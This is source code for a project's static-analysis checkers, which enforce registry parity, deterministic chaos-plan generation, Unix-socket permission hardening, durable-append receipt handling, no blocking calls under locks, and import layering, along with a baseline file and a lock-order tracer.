                findings.append(Finding(
                    checker=self.id, path=TELEMETRY_DOC, line=1,
                    message=(f"metric `{name}` is documented in "
                             f"docs/telemetry.md but never registered -- "
                             f"documented-but-never-emitted")))
        return findings
