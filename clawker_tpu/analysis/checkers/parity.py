"""Checker: seam and metric name registries must stay in sync.

Two registries keep string-keyed surfaces honest:

- chaos/seams.py ``SEAM_NAMES``: every ``seams.fire("...")`` site must
  name a registered seam (``arm`` validates at runtime, ``fire`` does
  NOT -- a typo'd fire site silently never fires), and every registered
  seam must have at least one fire site (a seam nothing fires is dead
  coverage the chaos plan generator still draws).

- docs/telemetry.md's registry table: every metric registered via
  ``telemetry.counter/gauge/histogram("name", ...)`` must have a
  ``| `name` |`` row, and every documented name must still be
  registered somewhere (documented-but-never-emitted names rot the
  operator docs the monitor stack dashboards are built from).

- tracing/names.py ``SPAN_CATALOGUE``: every ``SPAN_*`` string
  constant anywhere in the tree must appear in the catalogue, the
  catalogue must match docs/telemetry.md's span-catalogue table both
  ways, and the metric scan above EXCLUDES that table's section (span
  names like ``iteration`` would otherwise read as phantom metrics).
"""

from __future__ import annotations

import ast
import re

from ..core import Checker, Finding, RepoContext, SourceFile, register_checker
from ._util import call_tail, first_str_arg, receiver

SEAMS_FILE = "clawker_tpu/chaos/seams.py"
TELEMETRY_DOC = "docs/telemetry.md"
SPAN_NAMES_FILE = "clawker_tpu/tracing/names.py"

_DOC_ROW_RE = re.compile(r"^\|\s*`([a-z][a-z0-9_]+)`\s*\|", re.MULTILINE)
_METRIC_FACTORIES = {"counter", "gauge", "histogram"}
_METRIC_RECEIVERS = {"telemetry", "REGISTRY"}

# span names may carry dots (router.submit); rows only count inside the
# span-catalogue section, which the metric scan symmetrically excludes
_SPAN_ROW_RE = re.compile(r"^\|\s*`([a-z][a-z0-9_.]+)`\s*\|", re.MULTILINE)
_SPAN_HEADING_RE = re.compile(r"^(#{2,6})\s+.*span catalogue",
                              re.IGNORECASE | re.MULTILINE)


def _split_span_section(doc: str) -> tuple[str, str]:
    """(doc without the span-catalogue section, that section) -- the
    section runs from its heading to the next same-or-higher heading."""
    m = _SPAN_HEADING_RE.search(doc)
    if m is None:
        return doc, ""
    level = len(m.group(1))
    rest = doc[m.end():]
    nxt = re.search(rf"^#{{2,{level}}}\s", rest, re.MULTILINE)
    end = m.end() + (nxt.start() if nxt else len(rest))
    return doc[:m.start()] + doc[end:], doc[m.start():end]


def _literal_tuple(ctx: RepoContext, rel: str, var: str
                   ) -> tuple[set[str], int] | None:
    """``var`` parsed as a tuple/list of string literals from ``rel``'s
    AST, with its line; None when the fixture repo lacks the registry."""
    src = ctx.source(rel)
    if src is None or src.tree is None:
        return None
    for n in ast.walk(src.tree):
        if isinstance(n, ast.Assign) and any(
                isinstance(t, ast.Name) and t.id == var
                for t in n.targets):
            if isinstance(n.value, (ast.Tuple, ast.List)):
                names = {e.value for e in n.value.elts
                         if isinstance(e, ast.Constant)
                         and isinstance(e.value, str)}
                return names, n.lineno
    return None


def _seam_names(ctx: RepoContext) -> tuple[set[str], int] | None:
    return _literal_tuple(ctx, SEAMS_FILE, "SEAM_NAMES")


@register_checker
class RegistryParityChecker(Checker):
    id = "registry-parity"
    doc = ("every fired seam name must be registered in chaos/seams.py "
           "(and every seam fired somewhere); every registered metric "
           "must have a docs/telemetry.md row (and vice versa); every "
           "SPAN_* constant must be in tracing/names.py SPAN_CATALOGUE, "
           "which must match the doc's span-catalogue table both ways")

    def __init__(self):
        self._fired: dict[str, tuple[str, int]] = {}
        self._metrics: dict[str, tuple[str, int]] = {}
        self._span_consts: dict[str, tuple[str, int]] = {}

    def interested(self, rel: str) -> bool:
        return True

    def check(self, src: SourceFile, ctx: RepoContext) -> list[Finding]:
        assert src.tree is not None
        if src.rel == SEAMS_FILE:
            return []
        for c in ast.walk(src.tree):
            if isinstance(c, ast.Assign) \
                    and isinstance(c.value, ast.Constant) \
                    and isinstance(c.value.value, str) \
                    and re.fullmatch(r"[a-z][a-z0-9_.]*", c.value.value):
                for t in c.targets:
                    if isinstance(t, ast.Name) and t.id.startswith("SPAN_"):
                        self._span_consts.setdefault(
                            c.value.value, (src.rel, c.lineno))
                continue
            if not isinstance(c, ast.Call):
                continue
            tail = call_tail(c)
            if tail == "fire" and receiver(c) in {"seams", "self"} \
                    or tail == "_fire_seam":
                name = first_str_arg(c)
                if name and "." in name:
                    self._fired.setdefault(name, (src.rel, c.lineno))
            elif tail in _METRIC_FACTORIES \
                    and receiver(c) in _METRIC_RECEIVERS:
                name = first_str_arg(c)
                if name:
                    self._metrics.setdefault(name, (src.rel, c.lineno))
        return []

    def finish(self, ctx: RepoContext) -> list[Finding]:
        findings: list[Finding] = []
        fired, self._fired = self._fired, {}
        metrics, self._metrics = self._metrics, {}
        span_consts, self._span_consts = self._span_consts, {}

        seams = _seam_names(ctx)
        if seams is not None:
            registered, reg_line = seams
            for name, (rel, line) in sorted(fired.items()):
                if name not in registered:
                    findings.append(Finding(
                        checker=self.id, path=rel, line=line,
                        message=(f"seam `{name}` is fired but not "
                                 f"registered in chaos/seams.py SEAM_NAMES "
                                 f"-- fire() does not validate, this site "
                                 f"is silently dead")))
            for name in sorted(registered - set(fired)):
                findings.append(Finding(
                    checker=self.id, path=SEAMS_FILE, line=reg_line,
                    message=(f"seam `{name}` is registered in SEAM_NAMES "
                             f"but nothing fires it -- the chaos plan "
                             f"generator still draws it as dead coverage")))

        doc = ctx.read_text(TELEMETRY_DOC)
        metric_doc, span_section = _split_span_section(doc or "")

        catalogue = _literal_tuple(ctx, SPAN_NAMES_FILE, "SPAN_CATALOGUE")
        if catalogue is not None:
            registered, reg_line = catalogue
            for name, (rel, line) in sorted(span_consts.items()):
                if name not in registered:
                    findings.append(Finding(
                        checker=self.id, path=rel, line=line,
                        message=(f"span `{name}` has a SPAN_* constant but "
                                 f"is missing from tracing/names.py "
                                 f"SPAN_CATALOGUE")))
            if doc is not None and span_section:
                span_doc = set(_SPAN_ROW_RE.findall(span_section))
                for name in sorted(registered - span_doc):
                    findings.append(Finding(
                        checker=self.id, path=SPAN_NAMES_FILE, line=reg_line,
                        message=(f"span `{name}` is in SPAN_CATALOGUE but "
                                 f"has no row in docs/telemetry.md's "
                                 f"span-catalogue table")))
                for name in sorted(span_doc - registered):
                    findings.append(Finding(
                        checker=self.id, path=TELEMETRY_DOC, line=1,
                        message=(f"span `{name}` is documented in the "
                                 f"span-catalogue table but absent from "
                                 f"tracing/names.py SPAN_CATALOGUE -- "
                                 f"documented-but-never-emitted")))
            elif doc is not None:
                findings.append(Finding(
                    checker=self.id, path=TELEMETRY_DOC, line=1,
                    message=("docs/telemetry.md has no span-catalogue "
                             "section (heading containing 'span "
                             "catalogue') to cross-check SPAN_CATALOGUE "
                             "against")))

        if doc is not None and metrics:
            documented = set(_DOC_ROW_RE.findall(metric_doc))
            for name, (rel, line) in sorted(metrics.items()):
                if name not in documented:
                    findings.append(Finding(
                        checker=self.id, path=rel, line=line,
                        message=(f"metric `{name}` is registered but has "
                                 f"no row in docs/telemetry.md's registry "
                                 f"table")))
            for name in sorted(documented - set(metrics)):
                findings.append(Finding(
                    checker=self.id, path=TELEMETRY_DOC, line=1,
                    message=(f"metric `{name}` is documented in "
                             f"docs/telemetry.md but never registered -- "
                             f"documented-but-never-emitted")))
        return findings
