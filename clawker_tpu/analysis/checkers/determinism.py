"""Checker: chaos plan generation must be a pure function of its seed.

``generate_plan(seed, scenario)`` is the root of every chaos guarantee:
a soak failure replays from its (seed, i) pair ONLY if the schedule is
a pure function of the pair (docs/chaos.md#determinism).  One
``time.time()`` or module-level ``random.random()`` in a generation
path and the fixed-seed soak stops being fixed -- failures stop
replaying, shrunk repros stop reproducing, and the 25-scenario gate
starts flaking.

Flagged anywhere in chaos/plan.py: wall-clock reads (``time.time``,
``time.monotonic``, ``time.perf_counter``, ``datetime.now/utcnow``,
``date.today``) and any use of the module-level ``random`` instance
(``random.random()``, ``random.choice`` ...).  Constructing a seeded
``random.Random(seed)`` is the sanctioned pattern and stays legal.
"""

from __future__ import annotations

import ast

from ..core import Checker, Finding, RepoContext, SourceFile, register_checker
from ._util import dotted

SCOPED_FILES = ("clawker_tpu/chaos/plan.py",)

CLOCKS = {
    "time.time", "time.monotonic", "time.perf_counter", "time.time_ns",
    "datetime.now", "datetime.utcnow", "datetime.datetime.now",
    "datetime.datetime.utcnow", "date.today", "datetime.date.today",
}
# random.Random / random.SystemRandom construction is fine (seeded
# instances are the whole point); everything else on the module is the
# shared global generator
RANDOM_OK = {"Random", "SystemRandom", "seed"}


@register_checker
class ChaosDeterminismChecker(Checker):
    id = "chaos-determinism"
    doc = ("no wall-clock reads or module-level random in chaos plan "
           "generation -- schedules must replay from (seed, scenario)")

    def interested(self, rel: str) -> bool:
        return rel in SCOPED_FILES

    def check(self, src: SourceFile, ctx: RepoContext) -> list[Finding]:
        assert src.tree is not None
        findings: list[Finding] = []
        for n in ast.walk(src.tree):
            if not isinstance(n, ast.Attribute):
                continue
            name = dotted(n)
            if name in CLOCKS:
                findings.append(Finding(
                    checker=self.id, path=src.rel, line=n.lineno,
                    message=(f"wall-clock read `{name}` in chaos plan "
                             f"generation -- schedules must be pure "
                             f"functions of (seed, scenario) "
                             f"(docs/chaos.md#determinism)")))
            elif name.startswith("random.") \
                    and name.split(".")[1] not in RANDOM_OK:
                findings.append(Finding(
                    checker=self.id, path=src.rel, line=n.lineno,
                    message=(f"module-level `{name}` in chaos plan "
                             f"generation -- use a Random(seed) instance "
                             f"(docs/chaos.md#determinism)")))
        return findings
