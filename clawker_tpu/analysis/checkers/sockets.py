"""Checker: AF_UNIX server sockets must use the hardening pattern.

Every first-party daemon socket (nsd, loopd, workerd, bksession) is
root-equivalent or project-scoped: filesystem permissions ARE the auth
(docs/nsd-security.md, docs/loopd.md#socket-security).  The committed
pattern, hand-rolled at each site today:

    old = os.umask(0o177)        # cover the bind itself
    try:
        sock.bind(path)
    finally:
        os.umask(old)
    os.chmod(path, 0o600)        # umask-proof pin
    # ... under a 0o700 parent directory

This checker finds every ``.bind()`` in a function that creates an
``AF_UNIX`` socket and requires, in the same function: ``os.umask(0o177)``
before the bind and ``os.chmod(..., 0o600)`` after it -- plus ``0o700``
parent-directory evidence somewhere in the same file.  Client-side
functions (ones that ``connect`` and never ``listen``) are exempt, as
are in-container endpoints with an explicit allow justification.
"""

from __future__ import annotations

import ast

from ..core import Checker, Finding, RepoContext, SourceFile, register_checker
from ._util import body_calls, call_tail, functions

EXEMPT_PREFIXES = (
    # band-limited fixture/simulation surfaces, not production daemons
    "clawker_tpu/parity/",
    "clawker_tpu/adversarial/",
)


def _mentions_af_unix(fn: ast.AST) -> bool:
    for n in ast.walk(fn):
        if isinstance(n, ast.Attribute) and n.attr == "AF_UNIX":
            return True
    return False


@register_checker
class SocketHardeningChecker(Checker):
    id = "socket-hardening"
    doc = ("every AF_UNIX server bind() must sit in the umask-0o177 + "
           "chmod-0600 + 0700-parent pattern (fs perms are the auth)")

    def interested(self, rel: str) -> bool:
        return not rel.startswith(EXEMPT_PREFIXES)

    def check(self, src: SourceFile, ctx: RepoContext) -> list[Finding]:
        assert src.tree is not None
        file_has_0700 = "0o700" in src.text
        findings: list[Finding] = []
        for fn in functions(src.tree):
            if not _mentions_af_unix(fn):
                continue
            binds: list[ast.Call] = []
            listens = False
            connects = False
            umask_lines: list[int] = []
            chmod600_lines: list[int] = []
            for c in body_calls(fn):
                tail = call_tail(c)
                if tail == "bind":
                    binds.append(c)
                elif tail == "listen":
                    listens = True
                elif tail == "connect":
                    connects = True
                elif tail == "umask":
                    if any(isinstance(a, ast.Constant) and a.value == 0o177
                           for a in c.args):
                        umask_lines.append(c.lineno)
                elif tail == "chmod":
                    if any(isinstance(a, ast.Constant) and a.value == 0o600
                           for a in c.args):
                        chmod600_lines.append(c.lineno)
            if not binds or (connects and not listens):
                continue    # client side: nothing to harden
            for b in binds:
                problems = []
                if not any(ln < b.lineno for ln in umask_lines):
                    problems.append("no os.umask(0o177) before the bind")
                if not any(ln > b.lineno for ln in chmod600_lines):
                    problems.append("no os.chmod(..., 0o600) after the bind")
                if not file_has_0700:
                    problems.append("no 0o700 parent-dir evidence in the file")
                if problems:
                    findings.append(Finding(
                        checker=self.id, path=src.rel, line=b.lineno,
                        message=(f"AF_UNIX bind in `{fn.name}` misses the "
                                 f"hardening pattern: {'; '.join(problems)} "
                                 f"(docs/nsd-security.md)")))
        return findings
