"""Checker: durable journal appends must consume their receipt.

The fail-loud durability contract (docs/durability.md): a
``durable=True`` append fsyncs before returning and reports what
actually happened in its :class:`~clawker_tpu.loop.journal.AppendReceipt`.
A call site that discards the receipt turns a storage fault back into
a silent drop -- exactly the failure mode the receipt exists to
prevent.  The chaos soak proves the degraded paths dynamically on the
faults it draws; this checker proves every durable call site consumes
its verdict, lexically.

A ``append(..., durable=True)`` / ``_journal(..., durable=True)`` /
``hooks.journal(..., durable=True)`` call is covered when:

- its result is consumed -- assigned, returned, passed as an argument,
  wrapped (``self._durable_ok(self._journal(...))``), chained
  (``.require_durable()``), or tested in a condition -- i.e. the call
  is anything but a bare expression statement, or
- the enclosing function handles ``JournalUnhealthy`` (the fail-stop
  policy raises instead of returning a degraded receipt).

Only a literal ``durable=True`` matches: ``durable=durable``
pass-through wrappers re-export the receipt and are checked at *their*
call sites.
"""

from __future__ import annotations

import ast

from ..core import Checker, Finding, RepoContext, SourceFile, register_checker
from ._util import call_tail, functions, receiver

# the modules that perform durable write-ahead appends; fixture repos
# mirror these relative paths
SCOPED_FILES = (
    "clawker_tpu/loop/scheduler.py",
    "clawker_tpu/loop/warmpool.py",
    "clawker_tpu/loop/journal.py",
    "clawker_tpu/loopd/server.py",
    "clawker_tpu/capacity/controller.py",
    "clawker_tpu/chaos/runner.py",
)

# spellings of the WAL append in the journaled control plane
APPEND_TAILS = {"append", "_journal", "journal"}


def _is_durable_append(call: ast.Call) -> bool:
    tail = call_tail(call)
    if tail not in APPEND_TAILS:
        return False
    if tail == "journal" and receiver(call) not in {"hooks", "self"}:
        return False
    return any(kw.arg == "durable"
               and isinstance(kw.value, ast.Constant)
               and kw.value.value is True
               for kw in call.keywords)


def _handles_unhealthy(fn: ast.AST) -> bool:
    """True when ``fn`` contains a handler naming JournalUnhealthy (the
    fail-stop policy surfaces the fault by raising, so a discarded
    receipt under such a handler is still fail-loud)."""
    for n in ast.walk(fn):
        if not isinstance(n, ast.ExceptHandler) or n.type is None:
            continue
        types = n.type.elts if isinstance(n.type, ast.Tuple) else [n.type]
        for t in types:
            name = t.attr if isinstance(t, ast.Attribute) else (
                t.id if isinstance(t, ast.Name) else "")
            if name == "JournalUnhealthy":
                return True
    return False


@register_checker
class DurableAppendChecker(Checker):
    id = "durable-append-checked"
    doc = ("every append(..., durable=True) call site must consume the "
           "receipt (assign/return/wrap/chain) or handle "
           "JournalUnhealthy -- discarding it silently re-hides the "
           "storage fault the receipt reports")

    def interested(self, rel: str) -> bool:
        return rel in SCOPED_FILES

    def check(self, src: SourceFile, ctx: RepoContext) -> list[Finding]:
        assert src.tree is not None
        findings: list[Finding] = []
        for fn in functions(src.tree):
            handled = None  # computed lazily: most functions never trip
            for node in ast.walk(fn):
                # the only way to DISCARD a call's value in Python is a
                # bare expression statement; every other position
                # (assign, return, argument, attribute, boolean test)
                # consumes it
                if not (isinstance(node, ast.Expr)
                        and isinstance(node.value, ast.Call)
                        and _is_durable_append(node.value)):
                    continue
                if handled is None:
                    handled = _handles_unhealthy(fn)
                if handled:
                    continue
                findings.append(Finding(
                    checker=self.id, path=src.rel, line=node.lineno,
                    message=(
                        f"durable append `{call_tail(node.value)}(..., "
                        f"durable=True)` in `{fn.name}` discards its "
                        f"receipt -- consume it or handle "
                        f"JournalUnhealthy (fail-loud durability, "
                        f"docs/durability.md)"),
                ))
        return findings
