"""Checker: no blocking calls lexically inside a held-lock block.

The control plane's locks are *stamp* locks: they order in-memory state
and must be held for microseconds.  A blocking call under one -- an
engine round-trip, ``subprocess`` spawn/wait, a socket dial, a
``time.sleep`` -- couples every other thread contending that lock to an
external party's latency, which is how one wedged daemon freezes a
whole pod (the exact coupling per-worker lanes exist to prevent,
docs/loop-parallel.md).

Flagged inside ``with <something lock-ish>:`` blocks:

- ``time.sleep``
- ``subprocess.run/call/check_*/Popen``; ``.communicate()``
- socket ops: ``.connect/.recv/.accept/.sendall/.sendto``, ``urlopen``
- engine calls: ``create/start/restart/stop/remove_container``,
  ``wait_container``, ``put_archive``, ``.exec(...)``, ``.ping()``
- ``.join()`` on anything (joining a thread that needs the held lock is
  a deadlock), ``.wait()`` on anything OTHER than the lock object the
  ``with`` holds (``cond.wait()`` releases the lock; ``proc.wait()``
  does not)

Lock-ish context expressions: a name/attribute containing ``lock`` or
``cond`` (the repo convention: ``self._lock``, ``_placement_lock``,
``self._ev_cond``).
"""

from __future__ import annotations

import ast

from ..core import Checker, Finding, RepoContext, SourceFile, register_checker
from ._util import call_tail, dotted, receiver

SCOPED_PREFIXES = (
    "clawker_tpu/monitor/",
    "clawker_tpu/telemetry/",
    "clawker_tpu/engine/",
    "clawker_tpu/socketbridge/",
    "clawker_tpu/loopd/",
    "clawker_tpu/workerd/",
    "clawker_tpu/agentd/",
    "clawker_tpu/fleet/transport.py",
)

BLOCKING_TAILS = {
    "sleep", "run", "call", "check_output", "check_call", "Popen",
    "communicate", "connect", "recv", "recv_into", "accept", "sendall",
    "sendto", "urlopen", "join", "put_archive", "create_container",
    "start_container", "restart_container", "stop_container",
    "remove_container", "wait_container", "exec", "ping", "wait",
}
# tails only blocking when the receiver is clearly the right kind of
# object (``.run`` on subprocess/runner-ish receivers, not ``app.run``)
NEEDS_RECEIVER = {
    "run": {"subprocess", "runner"},
    "call": {"subprocess"},
    "check_output": {"subprocess"},
    "check_call": {"subprocess"},
    "Popen": {"subprocess"},
    "exec": {"engine"},
    "ping": {"engine"},
}


def _calls_outside_nested_defs(node: ast.AST):
    """Every Call under ``node``, NOT descending into nested function or
    lambda definitions: defining a closure under a lock is fine, it is
    executing one that blocks."""
    stack = [node]
    while stack:
        n = stack.pop()
        if isinstance(n, (ast.FunctionDef, ast.AsyncFunctionDef, ast.Lambda)):
            continue
        if isinstance(n, ast.Call):
            yield n
        stack.extend(ast.iter_child_nodes(n))


def _lockish(expr: ast.expr) -> str | None:
    """The dotted name of a lock-ish with-context, else None."""
    if isinstance(expr, ast.Call):
        return None     # with phases.phase("..."), with open(...), ...
    name = dotted(expr)
    tail = name.rsplit(".", 1)[-1].lower()
    if "lock" in tail or "cond" in tail:
        return name
    return None


@register_checker
class BlockingUnderLockChecker(Checker):
    id = "no-blocking-under-lock"
    doc = ("no engine/socket/subprocess/sleep calls lexically inside a "
           "`with <lock>:` block -- stamp locks are held for "
           "microseconds, never across external latency")

    def interested(self, rel: str) -> bool:
        return rel.startswith(SCOPED_PREFIXES) or rel in SCOPED_PREFIXES

    def check(self, src: SourceFile, ctx: RepoContext) -> list[Finding]:
        assert src.tree is not None
        findings: list[Finding] = []
        for w in ast.walk(src.tree):
            if not isinstance(w, ast.With):
                continue
            held = [n for n in (_lockish(i.context_expr) for i in w.items)
                    if n]
            if not held:
                continue
            held_set = set(held)
            for node in w.body:
                for c in _calls_outside_nested_defs(node):
                    tail = call_tail(c)
                    if tail not in BLOCKING_TAILS:
                        continue
                    if tail == "wait":
                        # .wait() on the held condition releases the
                        # lock -- only a wait on some OTHER object
                        # (proc.wait, thread-ish waits) blocks under it
                        if not isinstance(c.func, ast.Attribute):
                            continue
                        target = dotted(c.func.value)
                        last = target.rsplit(".", 1)[-1].lower()
                        if target and any(
                                target == h or h.endswith("." + target)
                                or target.endswith("." + h)
                                for h in held_set):
                            continue
                        if "cond" in last or "event" in last \
                                or last.endswith("_stop") or last == "_stop":
                            continue    # cond/event waits park, they
                            #             don't hold foreign latency
                        findings.append(self._finding(src, c, "wait", held[0]))
                        continue
                    if tail == "join" and isinstance(c.func, ast.Attribute) \
                            and isinstance(c.func.value, ast.Constant):
                        continue    # ", ".join(...) -- str.join, not a
                        #             thread join
                    need = NEEDS_RECEIVER.get(tail)
                    if need is not None and receiver(c) not in need:
                        continue
                    findings.append(self._finding(src, c, tail, held[0]))
        return findings

    def _finding(self, src: SourceFile, call: ast.Call, tail: str,
                 lock: str) -> Finding:
        return Finding(
            checker=self.id, path=src.rel, line=call.lineno,
            message=(f"blocking call `{tail}` inside `with {lock}:` -- "
                     f"move the blocking work outside the lock "
                     f"(docs/static-analysis.md#no-blocking-under-lock)"))
