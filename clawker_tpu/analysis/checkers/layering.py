"""Checker: whole-package import-layering DAG + sentinel observe-only.

The architecture has a spine (docs/loop-parallel.md, docs/loopd.md,
docs/analytics-online.md):

    cli  ->  loop / loopd / workerd / chaos / sentinel / ...
         ->  engine / controlplane / placement / health / monitor /
             telemetry / fleet / ...
         ->  util / config / consts / errors / logsetup

A package may import its own rank or below, never above: an
``engine`` module importing ``loop`` couples the data plane to one
consumer and is exactly the inversion that rots a 20-package codebase.
Violations are reported with the offending edge.

On top of the ranks, DENY edges encode the sentinel's observe-only
contract (docs/analytics-online.md): ``sentinel`` may not import --
and therefore cannot call into -- ``engine``, ``placement``,
``health``, or the scheduler packages.  The chaos soak proves the
contract dynamically with the byte-identical-placements twin; this
checker rejects the import at diff time.
"""

from __future__ import annotations

from ..core import Checker, Finding, RepoContext, SourceFile, register_checker
from ._util import module_imports

RANKS = {
    # rank 4: the CLI -- imports everything, imported by nothing
    "cli": 4,
    # rank 3: orchestration / long-lived daemons / analysis surfaces
    "loop": 3, "loopd": 3, "workerd": 3, "chaos": 3, "sentinel": 3,
    "ui": 3, "storeui": 3, "bundler": 3, "adversarial": 3, "parity": 3,
    "nsd": 3, "analysis": 3, "federation": 3,
    # rank 2: subsystems the orchestration layer composes
    "engine": 2, "controlplane": 2, "placement": 2, "health": 2,
    "monitor": 2, "telemetry": 2, "fleet": 2, "runtime": 2,
    "firewall": 2, "agentd": 2, "analytics": 2, "hostproxy": 2,
    "socketbridge": 2, "workspace": 2, "project": 2, "bundle": 2,
    "gitx": 2, "capacity": 2, "gitguard": 2, "tracing": 2,
    # rank 1: leaves -- importable from anywhere, import nothing above
    "util": 1, "config": 1, "consts": 1, "errors": 1, "logsetup": 1,
    "state": 1, "storage": 1, "containerfs": 1,
}

# forbidden regardless of rank: the observe-only sentinel contract.
# (loop/loopd/workerd share sentinel's rank, so the rank rule alone
# would let these through.)
DENY_EDGES = {
    ("sentinel", "engine"),
    ("sentinel", "placement"),
    ("sentinel", "health"),
    ("sentinel", "loop"),
    ("sentinel", "loopd"),
    ("sentinel", "workerd"),
    ("sentinel", "cli"),
    # the analyzer itself must stay pure stdlib (docs/static-analysis.md:
    # importable in <2s with no JAX on a bare host)
    ("analysis", "analytics"),
    ("analysis", "engine"),
    ("analysis", "loop"),
    ("analysis", "telemetry"),
    ("analysis", "cli"),
}


@register_checker
class LayeringChecker(Checker):
    id = "import-layering"
    doc = ("package imports must follow the layering DAG (cli -> "
           "loop/loopd/workerd -> engine/controlplane -> util); "
           "sentinel may not import engine/placement/health/scheduler "
           "(observe-only)")

    def interested(self, rel: str) -> bool:
        return True

    def check(self, src: SourceFile, ctx: RepoContext) -> list[Finding]:
        assert src.tree is not None
        parts = src.rel.split("/")
        # parts[0] == "clawker_tpu"; top-level modules rank with their
        # stem (state.py -> "state")
        inner = parts[1:]
        pkg = inner[0] if len(inner) > 1 else inner[0].removesuffix(".py")
        my_rank = RANKS.get(pkg)
        findings: list[Finding] = []
        seen: set[tuple[str, int]] = set()
        for target, lineno in module_imports(
                src.tree, pkg_parts=tuple(p.removesuffix(".py")
                                          for p in inner)):
            if target == pkg or (target, lineno) in seen:
                continue
            seen.add((target, lineno))
            if (pkg, target) in DENY_EDGES:
                findings.append(Finding(
                    checker=self.id, path=src.rel, line=lineno,
                    message=(f"forbidden edge {pkg} -> {target}: "
                             + ("sentinel is observe-only and may not "
                                "import the scheduling/engine side "
                                "(docs/analytics-online.md)"
                                if pkg == "sentinel" else
                                "the analyzer must stay pure stdlib "
                                "(docs/static-analysis.md)"))))
                continue
            t_rank = RANKS.get(target)
            if my_rank is None or t_rank is None:
                continue
            if t_rank > my_rank:
                findings.append(Finding(
                    checker=self.id, path=src.rel, line=lineno,
                    message=(f"layering violation: {pkg} (rank {my_rank}) "
                             f"imports {target} (rank {t_rank}) -- imports "
                             f"must point down the DAG "
                             f"(docs/static-analysis.md)")))
        return findings
