"""Grandfather baseline: pre-existing findings that don't block the gate.

``analysis-baseline.json`` (repo root) pins the findings that existed
when a checker first shipped.  The gate fails only on findings NOT in
the baseline, so a new checker can land with the codebase imperfect and
still stop the *next* regression.  Policy (docs/static-analysis.md):
every baselined finding must carry an in-code justification comment
near the site, and the baseline should only ever shrink --
``--baseline-update`` drops entries nothing matches anymore (expiry)
and reports LOUDLY when it grows the file (the runner prints the added
count, and the tier-1 repo-clean test caps the committed list at 15),
so disarming the gate is always a visible diff, never a silent one.

Fingerprints are line-number-free -- sha1 over
``checker | path | message`` -- so editing code ABOVE a grandfathered
site doesn't churn the baseline, while moving the finding to another
file or changing what it says does.
"""

from __future__ import annotations

import hashlib
import json
from pathlib import Path

BASELINE_NAME = "analysis-baseline.json"


def fingerprint(checker: str, path: str, message: str,
                occurrence: int = 0) -> str:
    """``occurrence`` disambiguates identical (checker, path, message)
    findings in one file: without it, a NEW second instance of a
    baselined defect would collide with the grandfathered entry and
    silently pass the gate.  0 keeps the historical value, so existing
    baseline files stay valid."""
    key = f"{checker}|{path}|{message}"
    if occurrence:
        key += f"|{occurrence}"
    return hashlib.sha1(key.encode()).hexdigest()[:16]


class Baseline:
    """An in-memory set of grandfathered findings, JSON round-trippable."""

    def __init__(self, entries: list[dict] | None = None):
        # fingerprint -> entry doc {fingerprint, checker, path, message}
        self._entries: dict[str, dict] = {}
        for e in entries or []:
            fp = e.get("fingerprint") or fingerprint(
                e.get("checker", ""), e.get("path", ""), e.get("message", ""))
            self._entries[fp] = {
                "fingerprint": fp,
                "checker": e.get("checker", ""),
                "path": e.get("path", ""),
                "message": e.get("message", ""),
            }

    def __contains__(self, fp: str) -> bool:
        return fp in self._entries

    def __len__(self) -> int:
        return len(self._entries)

    def fingerprints(self) -> list[str]:
        return sorted(self._entries)

    def entries(self) -> list[dict]:
        return [self._entries[fp] for fp in sorted(self._entries)]

    def add(self, finding) -> None:
        self._entries[finding.fingerprint] = {
            "fingerprint": finding.fingerprint,
            "checker": finding.checker,
            "path": finding.path,
            "message": finding.message,
        }

    def remove(self, fp: str) -> None:
        self._entries.pop(fp, None)

    # ------------------------------------------------------------- disk

    @classmethod
    def load(cls, path: Path | str) -> "Baseline":
        p = Path(path)
        if not p.is_file():
            return cls()
        doc = json.loads(p.read_text(encoding="utf-8"))
        return cls(doc.get("findings", []))

    def save(self, path: Path | str) -> Path:
        p = Path(path)
        doc = {
            "version": 1,
            "comment": ("Grandfathered static-analysis findings "
                        "(docs/static-analysis.md). Every entry must have "
                        "an in-code justification comment at the site; "
                        "regenerate with `clawker analyze --baseline-update`."),
            "findings": self.entries(),
        }
        p.write_text(json.dumps(doc, indent=2, sort_keys=True) + "\n",
                     encoding="utf-8")
        return p

    def updated_from(self, report) -> "Baseline":
        """The baseline ``--baseline-update`` writes: current active
        findings keep (or gain) entries, stale entries expire."""
        nb = Baseline()
        for f in report.findings:
            nb.add(f)
        return nb
