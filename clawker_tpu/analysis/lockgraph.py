"""Runtime lock-order tracer: the race-detector half of `clawker analyze`.

Static checkers prove what code *says*; deadlocks live in what threads
*do*.  This module wraps ``threading.Lock``/``threading.RLock`` (opt-in,
via :func:`install_lock_tracing` -- the testenv hook and the chaos soak
turn it on) and records the cross-thread lock **acquisition graph**:
an edge A -> B every time a thread tries to take B while holding A.
A cycle in that graph is a potential deadlock -- two threads that draw
the cyclic orders concurrently will park forever -- and the report
carries both acquisition stacks so the fix is a code pointer, not a
core dump.

Locks aggregate by **creation site** (file:line of the ``Lock()``
call): lock-order discipline is a property of lock *classes* ("the
pool lock", "the bus stamp lock"), not instances.  Same-site nesting
(two per-worker lane locks held together) is recorded separately and
never reported as a cycle -- per-instance hierarchies are legitimate;
cross-site cycles are not.

Edges are recorded on the acquire *attempt*, before the real acquire
can block, so a live deadlock still leaves its own evidence.  The
tracer costs one thread-local list scan per acquire and captures
frames only for the held-stack bookkeeping (bounded, no linecache), so
the 25-scenario chaos soak runs it without moving its budget.
"""

from __future__ import annotations

import sys
import threading

# originals captured at import: the graph's own mutation lock must never
# be a traced lock, and uninstall must restore exactly these
_ORIG_LOCK = threading.Lock
_ORIG_RLOCK = threading.RLock

_STACK_LIMIT = 6


def _site(depth: int) -> str:
    f = sys._getframe(depth)
    fn = f.f_code.co_filename.replace("\\", "/")
    short = "/".join(fn.split("/")[-3:])
    return f"{short}:{f.f_lineno}"


def _mini_stack(skip: int = 2) -> tuple[str, ...]:
    out: list[str] = []
    f = sys._getframe(skip)
    while f is not None and len(out) < _STACK_LIMIT:
        co = f.f_code
        fn = co.co_filename.replace("\\", "/")
        if "analysis/lockgraph" not in fn:
            out.append(f"{'/'.join(fn.split('/')[-3:])}:{f.f_lineno} "
                       f"in {co.co_name}")
        f = f.f_back
    return tuple(out)


class LockGraph:
    """Cross-thread lock acquisition graph, aggregated by creation site."""

    def __init__(self):
        self.enabled = True
        self._glock = _ORIG_LOCK()
        self._tls = threading.local()
        # (site_a, site_b) -> edge doc, recorded once per ordered pair
        self.edges: dict[tuple[str, str], dict] = {}
        self.same_site: dict[str, int] = {}
        # re-acquire of a HELD non-reentrant lock: a guaranteed
        # single-thread deadlock, reported as a self-cycle
        self.self_deadlocks: dict[str, dict] = {}
